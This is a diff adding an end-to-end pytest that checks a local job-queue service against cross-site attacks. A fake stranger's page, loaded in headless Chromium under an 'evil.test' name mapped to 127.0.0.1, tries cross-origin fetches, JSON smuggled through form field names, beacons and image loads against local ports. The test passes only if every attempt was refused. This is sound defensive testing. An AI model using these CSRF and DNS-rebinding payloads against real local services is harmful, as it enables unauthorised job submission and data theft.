@@ -1,0 +1,137 @@
+"""A stranger's page in a real browser on this machine can neither change nor read anything of ours."""
+
+import json
+import shutil
+import subprocess
+import threading
+from collections.abc import Iterator
+from contextlib import contextmanager
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+import pytest
+import requests
+
+from reference_server.server import ReferenceServer, ServeConfig
+from tests.support.stack import _BIN, Stack, eventually, free_port
+
+CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
+
+pytestmark = [
+    pytest.mark.e2e,
+    pytest.mark.timeout(300),
+    pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium on the PATH (Debian: apt install chromium)"),
+]
+
+# `NAME`, a name that a stranger had bound to 127.0.0.1, is what the page itself is called by.
+PAGE = """<!doctype html><title>stranger</title><body><pre id="told"></pre><script>
+const ports = PORTS, told = {};
+const job = '{"model":"zimg","payload":{"prompt":"stolen"}}';
+async function attempt(what, call) {
+  try { const it = await call(); told[what] = it.type === "opaque" ? "opaque" : it.status + " " + await it.text(); }
+  catch (error) { told[what] = "refused"; }
+}
+async function all() {
+  for (const host of ["127.0.0.1", "localhost", "NAME"]) for (const [door, port] of Object.entries(ports)) {
+    const url = `http://${host}:${port}`, credentials = door === "flower" ? "omit" : "include";
+    for (const mode of ["cors", "no-cors"]) for (const type of ["text/plain", "application/json", undefined])
+      for (const path of ["/queue/submit", "/admin/dlq/retry-all", "/generate", "/api/task/send-task/infer"])
+        await attempt(`${door} ${host} ${mode} ${type} ${path}`, () => fetch(url + path,
+          {method: "POST", mode, body: job, credentials, headers: type ? {"Content-Type": type} : {}}));
+    for (const path of ["/queue/jobs", "/openapi.json", "/health", "/metrics", "/tasks", "/health/live"])
+      await attempt(`${door} ${host} read ${path}`, () => fetch(url + path, {credentials}));
+    if (door !== "flower")  // It would ask for a password, and the page would wait.
+    for (const enctype of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
+      const frame = document.createElement("iframe"), form = document.createElement("form");
+      frame.name = "frame" + Math.random(); document.body.append(frame);
+      Object.assign(form, {action: url + (door === "server" ? "/generate" : "/queue/submit"), method: "POST", enctype});
+      form.target = frame.name;
+      const field = document.createElement("input");
+      field.name = job.slice(0, -1) + ',"a":"'; field.value = '"}';
+      form.append(field); document.body.append(form); form.submit();
+    }
+    if (door !== "flower") new Image().src = url + "/queue/jobs";
+    navigator.sendBeacon(url + "/queue/submit", job);
+  }
+  await new Promise(done => setTimeout(done, 1000));
+  await fetch("/told", {method: "POST", body: JSON.stringify(told)});
+}
+all();
+</script>"""
+
+
+@contextmanager
+def _stranger(ports: dict[str, int]) -> Iterator[tuple[int, dict[str, str]]]:
+    """A web server of somebody else: its port, and what its page was told, in the end."""
+    told: dict[str, str] = {}
+
+    class Pages(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html")
+            self.end_headers()
+            self.wfile.write(PAGE.replace("PORTS", json.dumps(ports)).replace("NAME", "evil.test").encode())
+
+        def do_POST(self) -> None:
+            told.update(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
+            self.send_response(204)
+            self.end_headers()
+
+        def log_message(self, *_: object) -> None:
+            pass
+
+    with ThreadingHTTPServer(("127.0.0.1", 0), Pages) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        yield server.server_address[1], told
+        server.shutdown()
+
+
+@contextmanager
+def _visiting(url: str, profile: Path) -> Iterator[None]:
+    """Chromium, which takes evil.test for this machine, as after DNS rebinding."""
+    command = [
+        str(CHROMIUM),
+        "--headless=new",
+        "--no-sandbox",
+        "--disable-gpu",
+        "--no-first-run",
+        "--disable-dev-shm-usage",
+    ]
+    command += [
+        f"--user-data-dir={profile}",
+        "--host-resolver-rules=MAP evil.test 127.0.0.1",
+        "--remote-debugging-port=0",
+    ]
+    browser = subprocess.Popen([*command, url], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    try:
+        yield
+    finally:
+        browser.kill()
+        browser.wait()
+
+
+def test_a_strangers_page_changes_and_reads_nothing(tmp_path: Path) -> None:
+    ran: list[object] = []
+    flower = free_port()
+    with (
+        ReferenceServer(ran.append, ServeConfig(port=0)) as server,
+        Stack(tmp_path / "home", {"SLOTKEEPER_FLOWER_PORT": str(flower)}) as stack,
+    ):
+        stack.web()
+        stack.start("flower", [str(_BIN / "slotkeeper"), "flower"])
+        assert requests.put(f"{stack.url}/admin/model-configs/zimg", json={}, timeout=10).ok
+        eventually(lambda: _answers(flower), "Flower answers", 60)
+        ports = {"api": stack.port, "server": int(server.url.rpartition(":")[2]), "flower": flower}
+        with _stranger(ports) as (port, told), _visiting(f"http://evil.test:{port}/", tmp_path / "profile"):
+            eventually(lambda: told, "the page has tried everything", 200)
+        jobs = requests.get(f"{stack.url}/queue/jobs", timeout=10).json()["jobs"]
+    assert len(told) == 3 * 3 * (2 * 3 * 4 + 6), "it has tried all of it"
+    assert {what: it for what, it in told.items() if it not in ("refused", "opaque")} == {}, "it has read nothing"
+    assert (jobs, ran) == ([], []), "it has changed nothing"
+
+
+def _answers(port: int) -> bool:
+    try:
+        return bool(requests.get(f"http://127.0.0.1:{port}/healthcheck", timeout=5).status_code)
+    except requests.ConnectionError:
+        return False
